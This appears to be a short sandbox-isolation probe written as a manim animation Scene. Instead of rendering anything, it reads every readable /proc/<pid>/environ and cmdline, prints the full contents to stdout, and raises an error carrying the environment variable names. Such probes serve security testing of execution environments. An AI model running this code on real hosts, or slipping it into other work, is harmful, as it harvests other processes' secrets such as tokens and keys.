"""A3: every /proc/<pid>/environ and cmdline this job can read (the host's would hold secrets)."""

import json
import os

from manim import Scene


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as e:
        return f"{type(e).__name__}"


class FilesProcEnviron(Scene):
    def construct(self):
        seen = {}
        for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
            for name in ("environ", "cmdline"):
                seen[f"{pid}/{name}"] = read(f"/proc/{pid}/{name}")
        print(seen)  # the whole of it comes back as stdout, which the host scans for secrets
        names = {
            k: [v.split("=")[0] for v in t.split("\0")] for k, t in seen.items() if "environ" in k
        }
        raise RuntimeError("REPORT " + json.dumps({"environ_names": names}))
